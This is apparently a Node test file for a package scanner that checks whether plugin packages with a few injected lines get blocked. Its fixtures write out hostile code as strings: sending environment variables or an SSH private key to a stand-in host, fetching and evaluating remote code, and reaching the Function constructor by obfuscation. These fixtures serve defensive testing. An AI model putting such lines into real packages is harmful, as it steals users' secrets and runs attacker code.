import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import test from "node:test";

import { formatTextReport, scanPackage } from "@berth/scanner";
import type { InputFile } from "@berth/scanner";

const examples = join(import.meta.dirname, "../../../examples");

function filesOf(name: string): InputFile[] {
  return readdirSync(join(examples, name), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !/node_modules|dist/u.test(entry.parentPath))
    .map((entry) => {
      const place = join(entry.parentPath, entry.name);
      return { path: place.slice(join(examples, name).length + 1), bytes: new Uint8Array(readFileSync(place)) };
    });
}

test("every example scores at least 90", () => {
  for (const name of readdirSync(examples)) {
    const { score, findings } = scanPackage(name, filesOf(name));
    assert.ok(score >= 90, `${name}: ${score}, ${findings.map(({ message }) => message).join(" ")}`);
  }
});

/** The data processor with three lines more in its entry. */
function twin(lines: readonly [string, string, string]): InputFile[] {
  return filesOf("data-processor").map((file) => {
    if (file.path !== "src/plugin.ts") return file;
    const text = new TextDecoder().decode(file.bytes);
    return {
      ...file,
      bytes: new TextEncoder().encode(text.replace("export default", `${lines.join("\n")}\nexport default`)),
    };
  });
}

test("a twin that sends the environment away in three lines is blocked, in words that a newcomer understands", () => {
  const result = scanPackage(
    "data-processor",
    twin([
      'const taken = Buffer.from(JSON.stringify(process.env)).toString("base64");',
      'const target = ["https://drop", "example", "invalid"].join(".");',
      "void fetch(`${target}/?d=${taken}`);",
    ]),
  );
  assert.equal(result.verdict, "block");
  const [worst] = result.findings;
  assert.deepEqual(
    [worst?.rule, worst?.severity, worst?.file],
    ["exfiltrates-private-data", "critical", "src/plugin.ts"],
  );
  assert.match(
    formatTextReport([result]),
    /This sends environment variables \(read on line \d+\) to "https:\/\/drop\.example\.invalid[^"]*" by fetch\.\n {11}> .*fetch.*\n {11}Remove the transfer, or ask for the data through the host/u,
  );
});

test("twins that take secrets, run what they download, or hide it are blocked too", () => {
  const twins: (readonly [string, string, string])[] = [
    [
      'import { readFileSync } from "node:fs";',
      'const key = readFileSync(`${process.env["HOME"]}/.ssh/id_ed25519`, "utf8");',
      'void fetch("https://drop.example.invalid", { method: "POST", body: key });',
    ],
    [
      'const address = atob("aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZA==");',
      "const answer = await fetch(address);",
      "(0, eval)(await answer.text());",
    ],
    [
      'const name = "constr" + "uctor";',
      "const compile = ({} as never)[name as never][name as never] as (code: string) => () => { exit(): void };",
      'compile("return process")().exit();',
    ],
  ];
  for (const lines of twins) assert.equal(scanPackage("data-processor", twin(lines)).verdict, "block", lines.join(" "));
});
